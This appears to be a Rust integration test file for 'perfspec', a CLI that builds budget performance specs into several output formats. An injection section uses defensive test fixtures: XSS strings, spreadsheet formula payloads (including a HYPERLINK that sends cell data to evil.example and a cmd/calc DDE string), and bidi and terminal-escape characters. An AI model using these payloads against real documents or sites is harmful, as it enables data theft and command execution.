fn a_failed_build_leaves_every_previous_output_intact() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    std::fs::write(d.join("spec.perf"), spec("")).expect("write");
    for f in FORMATS {
        let out = run_in(
            d,
            &[
                "build",
                "spec.perf",
                "--format",
                f,
                "-o",
                &format!("out.{f}"),
            ],
        );
        assert_eq!(out.status.code(), Some(0), "{f}: {}", stderr(&out));
    }
    let before: Vec<(String, Vec<u8>)> = FORMATS
        .iter()
        .map(|f| {
            let name = format!("out.{f}");
            let bytes = std::fs::read(d.join(&name)).expect("output");
            assert!(!bytes.is_empty());
            (name, bytes)
        })
        .collect();
    let names = listing(d);
    // The spec breaks: a syntax error and a check error.
    std::fs::write(
        d.join("spec.perf"),
        spec("  数量 断了的行 ≥\n  数量 重量 = 5 公斤次\n"),
    )
    .expect("write");
    for f in FORMATS {
        let out = run_in(
            d,
            &[
                "build",
                "spec.perf",
                "--format",
                f,
                "-o",
                &format!("out.{f}"),
            ],
        );
        assert_eq!(out.status.code(), Some(1), "{f}: {}", stderr(&out));
        assert!(out.stdout.is_empty());
        assert!(
            stderr(&out).contains("nothing was built"),
            "{}",
            stderr(&out)
        );
    }
    // The output path is a folder: the write fails after the build.
    std::fs::write(d.join("spec.perf"), spec("")).expect("write");
    std::fs::create_dir(d.join("folder.json")).expect("mkdir");
    let out = run_in(d, &["build", "spec.perf", "-o", "folder.json"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("cannot write folder.json"),
        "{}",
        stderr(&out)
    );
    std::fs::remove_dir(d.join("folder.json")).expect("rmdir");
    // A folder that does not exist.
    let out = run_in(d, &["build", "spec.perf", "-o", "missing/out.json"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(!d.join("missing").exists());
    // xlsx refused before anything is written.
    let out = perfspec()
        .args([
            "build",
            "spec.perf",
            "--format",
            "xlsx",
            "-o",
            "out.xlsx",
            "--lang",
            "en",
        ])
        .env("SOURCE_DATE_EPOCH", "yesterday")
        .current_dir(d)
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    for (name, bytes) in &before {
        assert_eq!(
            &std::fs::read(d.join(name)).expect("output"),
            bytes,
            "{name} changed"
        );
    }
    assert_eq!(listing(d), names, "a temporary file was left behind");
}

/// Output written through a symbolic link reaches the link's target; the link stays.
#[cfg(unix)]
#[test]
fn outputs_are_written_through_symbolic_links() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    std::fs::write(d.join("spec.perf"), spec("")).expect("write");
    std::fs::create_dir(d.join("real")).expect("mkdir");
    std::fs::write(d.join("real/out.json"), b"old").expect("write");
    std::os::unix::fs::symlink("real/out.json", d.join("out.json")).expect("symlink");
    let out = run_in(d, &["build", "spec.perf", "-o", "out.json"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(std::fs::symlink_metadata(d.join("out.json"))
        .expect("link")
        .file_type()
        .is_symlink());
    assert!(std::fs::read_to_string(d.join("real/out.json"))
        .expect("target")
        .contains("schema_version"));
    assert_eq!(listing(&d.join("real")), ["out.json"]);
}

/// fmt over a folder: the unformatted spec is rewritten in place (mode kept), the broken
/// and the non-UTF-8 ones are left byte for byte, and nothing else appears.
#[test]
fn fmt_rewrites_atomically_and_leaves_what_it_refuses() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let messy = spec("").replace(
        "  性质 经常性专项业务费",
        "\t性质\u{3000}\u{3000}经常性专项业务费   ",
    );
    std::fs::write(d.join("a-messy.perf"), &messy).expect("write");
    let broken = spec("  数量 断了的行 ≥\n").into_bytes();
    std::fs::write(d.join("b-broken.perf"), &broken).expect("write");
    let gbk: &[u8] = b"\xc4\xea\xb6\xc8 2026\n";
    std::fs::write(d.join("c-gbk.perf"), gbk).expect("write");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(
            d.join("a-messy.perf"),
            std::fs::Permissions::from_mode(0o640),
        )
        .expect("chmod");
    }
    let names = listing(d);
    let out = run_in(d, &["fmt", "."]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("formatted 1 files"),
        "{}",
        stderr(&out)
    );
    let formatted = std::fs::read_to_string(d.join("a-messy.perf")).expect("read");
    assert_eq!(
        formatted,
        perfspec::fmt::format_source(&messy).expect("fmt")
    );
    assert_eq!(
        std::fs::read(d.join("b-broken.perf")).expect("read"),
        broken
    );
    assert_eq!(std::fs::read(d.join("c-gbk.perf")).expect("read"), gbk);
    assert_eq!(listing(d), names, "a temporary file was left behind");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(d.join("a-messy.perf"))
            .expect("meta")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o640);
    }
}

/// import writes nothing when it cannot write everything it was asked to: an existing spec
/// (without --force) or an unreadable input stops the run before any file is written.
#[test]
fn import_writes_all_or_nothing() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let seed = root().join("tests/fixtures/import/seed.txt");
    let seed = seed.to_str().expect("utf-8 path");
    let out = run_in(d, &["import", seed, "-o", "specs"]);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", stderr(&out));
    let first = listing(&d.join("specs"));
    assert_eq!(first.len(), 4, "{first:?}");
    assert!(first.iter().all(|n| n.ends_with(".perf")), "{first:?}");
    // Edit one, then import again: refused, the edit kept.
    let edited = d.join("specs").join(&first[0]);
    std::fs::write(&edited, "# edited by hand\n").expect("write");
    let out = run_in(d, &["import", seed, "-o", "specs"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("already exists; use --force"),
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("nothing was written"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(&edited).expect("read"),
        "# edited by hand\n"
    );
    // An input that is not a form at all, next to a good one: nothing written either.
    std::fs::write(d.join("junk.xlsx"), b"PK\x03\x04 not really a workbook").expect("write");
    let out = run_in(d, &["import", seed, "junk.xlsx", "-o", "other"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(!d.join("other").exists());
    assert_eq!(
        listing(&d.join("specs")),
        first,
        "a temporary file was left behind"
    );
}

/// An output inside the folder being built is never read back as input: not the JSON
/// (which is not a .perf anyway) and not an output named .perf, however the paths are
/// spelled.
#[test]
fn an_output_inside_the_input_folder_is_not_read_back() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    std::fs::create_dir(d.join("specs")).expect("mkdir");
    std::fs::write(d.join("specs/a.perf"), spec("")).expect("write");
    for (input, output) in [
        ("specs", "specs/out.perf"),
        ("specs/", "./specs/out.perf"),
        ("./specs", "specs/../specs/out.perf"),
        ("specs", "specs/x.json"),
    ] {
        let mut builds = Vec::new();
        for _ in 0..2 {
            let out = run_in(d, &["build", input, "-o", output]);
            assert_eq!(
                out.status.code(),
                Some(0),
                "{input} -o {output}: {}",
                stderr(&out)
            );
            builds.push(std::fs::read(d.join(output)).expect("output"));
        }
        assert_eq!(
            builds[0], builds[1],
            "{input} -o {output}: the second build differs"
        );
        let doc: Value = serde_json::from_slice(&builds[1]).expect("JSON");
        assert_eq!(doc["totals"]["projects"], 1, "{input} -o {output}");
        // check and fmt, which write no output, do read it: a JSON named .perf is an error.
        std::fs::remove_file(d.join(output)).expect("rm");
    }
    assert_eq!(listing(&d.join("specs")), ["a.perf"]);
}

// ---------------------------------------------------------------------------------------
// Injection: one hostile spec, every output

const SCRIPT: &str = "<script>alert('x')</script>";
const IMG: &str = "<img src=x onerror=alert(1)>";
const LINK: &str = "<a href=\"javascript:alert(1)\">点我</a>";
const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"报表\")";
const CMD: &str = "+cmd|' /C calc'!A0";
const AT_SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const BIDI: &str = "合同\u{202E}txt.exe\u{202C}";
const ZERO_WIDTH: &str = "满意\u{200B}度";
const ESCAPE: &str = "标题\u{1b}]0;PWNED\u{7}";

fn quoted(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

fn hostile_spec() -> String {
    format!(
        "年度 2026
主管部门 {SCRIPT}
实施单位 {HYPERLINK}

项目 {} {{
  性质 {CMD}
  类别 特定目标类
  期间 2026-01-01 至 2026-12-31
  资金 {{
    当年财政拨款 100,000.00
  }}
  项目总目标 {LINK}
  年度总体目标 \"\"\"
    {IMG}
    {AT_SUM}
  \"\"\"
  经济成本 {} ≤ 10.00 万元
  数量 {} ≥ 100 次
  数量 {} ≥ 10 次
  数量 {} ≥ 1 次
  社会效益 {} = {AT_SUM}
  可持续影响 {} = {HYPERLINK}
  服务对象满意度 {} ≥ 90 %
}}
",
        quoted(&format!("{BIDI}{SCRIPT}")),
        quoted(HYPERLINK),
        quoted(IMG),
        quoted(LINK),
        quoted(ESCAPE),
        quoted(AT_SUM),
        quoted(CMD),
        quoted(ZERO_WIDTH),
    )
}

const HOSTILE: [&str; 9] = [
    SCRIPT, IMG, LINK, HYPERLINK, CMD, AT_SUM, BIDI, ZERO_WIDTH, ESCAPE,
];

fn xlsx_part(bytes: &[u8], name: &str) -> String {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a zip");
    let mut f = zip.by_name(name).expect("part");
    let mut s = String::new();
    f.read_to_string(&mut s).expect("utf-8");
    s
}

#[test]
fn hostile_text_reaches_no_output_as_active_content() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let src = hostile_spec();
    std::fs::write(d.join("hostile.perf"), &src).expect("write");

    // check: warnings only; every name with a bidi, zero-width or control character is
    // named (PS402), and the report itself holds none of them.
    let out = run_in(d, &["check", "hostile.perf", "--color", "always"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("U+202E") && err.contains("U+200B") && err.contains("U+001B"),
        "{err}"
    );
    let r = check_source("hostile.perf", &src);
    assert_eq!(
        codes(&r).iter().filter(|c| **c == "PS402").count(),
        3,
        "{:?}",
        codes(&r)
    );
    for c in ['\u{202E}', '\u{202C}', '\u{200B}', '\u{7}'] {
        assert!(!err.contains(c), "check printed {c:?}");
    }
    assert!(
        !err.contains("\u{1b}]"),
        "check printed an OSC escape sequence"
    );

    // JSON: data, kept exactly.
    let out = run_in(d, &["build", "hostile.perf"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let doc: Value = serde_json::from_slice(&out.stdout).expect("JSON");
    let p = &doc["projects"][0];
    assert_eq!(p["name"], format!("{BIDI}{SCRIPT}"));
    assert_eq!(p["department"], SCRIPT);
    assert_eq!(p["unit"], HYPERLINK);
    let names: Vec<&str> = p["indicators"]
        .as_array()
        .expect("indicators")
        .iter()
        .map(|i| i["name"].as_str().expect("name"))
        .collect();
    assert_eq!(
        names,
        [HYPERLINK, IMG, LINK, ESCAPE, AT_SUM, CMD, ZERO_WIDTH]
    );
    fn strings(v: &Value, out: &mut Vec<String>) {
        match v {
            Value::String(s) => out.push(s.clone()),
            Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
            Value::Object(o) => o.values().for_each(|x| strings(x, out)),
            _ => {}
        }
    }
    let mut all = Vec::new();
    strings(&doc, &mut all);
    for h in HOSTILE {
        assert!(
            all.iter().any(|s| s.contains(h)),
            "{h:?} lost from the JSON"
        );
    }

    // CSV: every text is there, as text; no cell starts a formula.
    let out = run_in(d, &["build", "hostile.perf", "--format", "csv"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let m = model(&r);
    harness::csv_invariants(&out.stdout, &m).expect("CSV oracle");
    let csv_text = String::from_utf8(out.stdout.clone()).expect("utf-8");
    for h in [HYPERLINK, CMD, AT_SUM] {
        assert!(
            csv_text.contains(&format!("'{}", h.replace('"', "\"\""))),
            "{h} not kept as text"
        );
    }

    // HTML: only the template's markup; the spec's markup shows as text.
    let out = run_in(d, &["build", "hostile.perf", "--format", "html"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let html = String::from_utf8(out.stdout).expect("utf-8");
    harness::html_invariants(&html).expect("HTML oracle");
    assert!(
        html.contains("&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;")
            || html.contains("&lt;script&gt;")
    );
    assert!(!html.contains("<script"), "a script element in the page");
    assert!(
        !html.contains("href=\"javascript"),
        "a javascript: link in the page"
    );

    // xlsx: every text a string cell (never a formula); the only formulas are the summary's
    // own sums.
    let out = run_in(
        d,
        &[
            "build",
            "hostile.perf",
            "--format",
            "xlsx",
            "-o",
            "hostile.xlsx",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let bytes = std::fs::read(d.join("hostile.xlsx")).expect("xlsx");
    let strings = xlsx_part(&bytes, "xl/sharedStrings.xml");
    for h in [HYPERLINK, CMD, AT_SUM] {
        let escaped = h
            .replace('&', "&amp;")
            .replace('"', "&quot;")
            .replace('<', "&lt;")
            .replace('>', "&gt;");
        assert!(
            strings.contains(&escaped) || strings.contains(&h.replace('&', "&amp;")),
            "{h} is not a string"
        );
    }
    for sheet in ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"] {
        let xml = xlsx_part(&bytes, sheet);
        let mut rest = xml.as_str();
        while let Some(i) = rest.find("<f>") {
            rest = &rest[i + 3..];
            assert!(
                rest.starts_with("SUM("),
                "{sheet}: formula {}",
                &rest[..rest.len().min(60)]
            );
        }
    }

    // diff: the names show with their hidden characters written out.
    std::fs::write(d.join("other.perf"), src.replace("≥ 100 次", "≥ 200 次")).expect("write");
    for format in ["text", "markdown"] {
        let out = run_in(
            d,
            &[
                "diff",
                "hostile.perf",
                "other.perf",
                "--format",
                format,
                "--color",
                "always",
            ],
        );
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        let text = String::from_utf8(out.stdout).expect("utf-8");
        // Markdown escapes the brackets: `&lt;U+202E&gt;` reads as <U+202E>.
        assert!(
            text.contains("U+202E>") || text.contains("U+202E&gt;"),
            "{format}: {text}"
        );
        for c in ['\u{202E}', '\u{200B}', '\u{7}'] {
            assert!(!text.contains(c), "{format} printed {c:?}");
        }
        assert!(
            !text.contains("\u{1b}]"),
            "{format} printed an OSC escape sequence"
        );
    }
}

// ---------------------------------------------------------------------------------------
// The CLI contract (docs/cli.md): exit status 0 ok, 1 spec errors or differences, 2 could
// not run; stdout carries only the requested output, every message goes to stderr.

#[derive(Clone, Copy)]
enum Stdout {
    Empty,
    /// Some bytes, and they are what the command was asked for (checked by `what`).
    Output(fn(&[u8]) -> bool),
}

fn json_doc(b: &[u8]) -> bool {
    serde_json::from_slice::<Value>(b).is_ok_and(|v| v["schema_version"] == 2)
}
fn json_lines(b: &[u8]) -> bool {
    let s = String::from_utf8_lossy(b);
    s.lines().count() > 0
        && s.lines()
            .all(|l| serde_json::from_str::<Value>(l).is_ok_and(|v| v["code"].is_string()))
}
fn json_value(b: &[u8]) -> bool {
    serde_json::from_slice::<Value>(b).is_ok()
}
fn csv_bom(b: &[u8]) -> bool {
    b.starts_with(b"\xEF\xBB\xBF")
}
fn html_page(b: &[u8]) -> bool {
    String::from_utf8_lossy(b).starts_with("<!DOCTYPE html>")
}
fn zip(b: &[u8]) -> bool {
    b.starts_with(b"PK\x03\x04")
}
fn patch(b: &[u8]) -> bool {
    String::from_utf8_lossy(b).starts_with("--- a/")
}
fn spec_text(b: &[u8]) -> bool {
    String::from_utf8_lossy(b).contains("项目 ")
}
fn any_text(b: &[u8]) -> bool {
    !b.is_empty() && std::str::from_utf8(b).is_ok()
}

#[test]
fn exit_codes_and_streams_are_consistent_across_commands() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let good = perfspec::fmt::format_source(&spec("")).expect("fmt");
    std::fs::write(d.join("good.perf"), &good).expect("write");
    std::fs::write(d.join("changed.perf"), good.replace("≥ 100 次", "≥ 200 次")).expect("write");
    std::fs::write(d.join("bad.perf"), spec("  数量 重量 = 5 公斤次\n")).expect("write");
    std::fs::write(d.join("broken.perf"), spec("  数量 断了的行 ≥\n")).expect("write");
    let messy = good.replace("  性质 经常性专项业务费", "  性质    经常性专项业务费");
    assert_ne!(messy, good);
    std::fs::write(d.join("messy.perf"), &messy).expect("write");
    let seed = root().join("tests/fixtures/import/seed.txt");
    let seed = seed.to_str().expect("utf-8 path");
    use Stdout::{Empty, Output};
    // (args, stdin, exit status, stdout, whether stderr must be empty)
    type Case<'a> = (Vec<&'a str>, Option<&'a str>, i32, Stdout, bool);
    let cases: Vec<Case> = vec![
        (vec!["check", "good.perf"], None, 0, Empty, false),
        (vec!["check", "bad.perf"], None, 1, Empty, false),
        (vec!["check", "broken.perf"], None, 1, Empty, false),
        (
            vec!["check", "bad.perf", "--format", "json"],
            None,
            1,
            Output(json_lines),
            true,
        ),
        (vec!["check", "missing.perf"], None, 2, Empty, false),
        (vec!["check", "--no-such-flag"], None, 2, Empty, false),
        (vec!["build", "good.perf"], None, 0, Output(json_doc), true),
        (
            vec!["build", "good.perf", "--format", "csv"],
            None,
            0,
            Output(csv_bom),
            true,
        ),
        (
            vec!["build", "good.perf", "--format", "html"],
            None,
            0,
            Output(html_page),
            true,
        ),
        (
            vec!["build", "good.perf", "--format", "xlsx", "-o", "-"],
            None,
            0,
            Output(zip),
            true,
        ),
        (
            vec!["build", "good.perf", "-o", "out.json"],
            None,
            0,
            Empty,
            true,
        ),
        (
            vec!["build", "good.perf", "--format", "xlsx"],
            None,
            2,
            Empty,
            false,
        ),
        (vec!["build", "bad.perf"], None, 1, Empty, false),
        (vec!["build", "missing.perf"], None, 2, Empty, false),
        (
            vec!["build", "good.perf", "--format", "pdf"],
            None,
            2,
            Empty,
            false,
        ),
        (vec!["fmt", "--check", "good.perf"], None, 0, Empty, false),
        (
            vec!["fmt", "--check", "messy.perf"],
            None,
            1,
            Output(patch),
            false,
        ),
        (vec!["fmt", "--check", "broken.perf"], None, 1, Empty, false),
        (
            vec!["fmt", "--stdout", "messy.perf"],
            None,
            0,
            Output(spec_text),
            true,
        ),
        (
            vec!["fmt", "-"],
            Some(messy.as_str()),
            0,
            Output(spec_text),
            true,
        ),
        (
            vec!["fmt", "--check", "-"],
            Some(messy.as_str()),
            1,
            Output(patch),
            false,
        ),
        (
            vec!["fmt", "-"],
            Some("项目 甲 {\n  数量 x ≥\n}\n"),
            1,
            Output(spec_text),
            false,
        ),
        (vec!["fmt", "missing.perf"], None, 2, Empty, false),
        (
            vec!["diff", "good.perf", "good.perf"],
            None,
            0,
            Output(any_text),
            true,
        ),
        (
            vec!["diff", "good.perf", "changed.perf"],
            None,
            1,
            Output(any_text),
            true,
        ),
        (
            vec!["diff", "good.perf", "changed.perf", "--format", "json"],
            None,
            1,
            Output(json_value),
            true,
        ),
        (
            vec!["diff", "good.perf", "changed.perf", "--format", "markdown"],
            None,
            1,
            Output(any_text),
            true,
        ),
        (
            vec!["diff", "good.perf", "bad.perf"],
            None,
            1,
            Output(any_text),
            false,
        ),
        (
            vec!["diff", "good.perf", "no-such-revision"],
            None,
            2,
            Empty,
            false,
        ),
        (vec!["explain"], None, 0, Output(any_text), true),
        (vec!["explain", "PS402"], None, 0, Output(any_text), true),
        (vec!["explain", "PS999"], None, 2, Empty, false),
        (
            vec!["import", seed, "-o", "imported"],
            None,
            0,
            Empty,
            false,
        ),
        (
            vec!["import", seed, "-o", "imported"],
            None,
            2,
            Empty,
            false,
        ),
        (vec!["import", "missing.txt"], None, 2, Empty, false),
        (vec!["--version"], None, 0, Output(any_text), true),
        (vec!["--help"], None, 0, Output(any_text), true),
        (vec!["no-such-command"], None, 2, Empty, false),
        (vec![], None, 2, Empty, false),
    ];
    for (args, stdin, code, want_stdout, quiet) in cases {
        let mut cmd = perfspec();
        cmd.args(&args)
            .current_dir(d)
            .env_remove("SOURCE_DATE_EPOCH");
        cmd.stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        });
        cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = cmd.spawn().expect("spawn");
        if let Some(input) = stdin {
            use std::io::Write;
            child
                .stdin
                .take()
                .expect("stdin")
                .write_all(input.as_bytes())
                .expect("write stdin");
        }
        let out = child.wait_with_output().expect("run");
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(code), "{args:?}: {err}");
        match want_stdout {
            Empty => assert!(
                out.stdout.is_empty(),
                "{args:?} wrote to stdout: {}",
                String::from_utf8_lossy(&out.stdout)
            ),
            Output(what) => assert!(
                what(&out.stdout),
                "{args:?}: unexpected stdout: {}",
                &String::from_utf8_lossy(&out.stdout)[..out.stdout.len().min(300)]
            ),
        }
        if quiet {
            assert!(err.is_empty(), "{args:?} wrote to stderr: {err}");
        } else if code != 0 {
            assert!(!err.is_empty(), "{args:?} failed without a word on stderr");
        }
        // Could not run: one line that says so, prefixed (clap's own usage errors aside).
        if code == 2 && !err.starts_with("error:") && !err.starts_with("Usage:") && !args.is_empty()
        {
            assert!(err.contains("perfspec: "), "{args:?}: {err}");
        }
    }
}
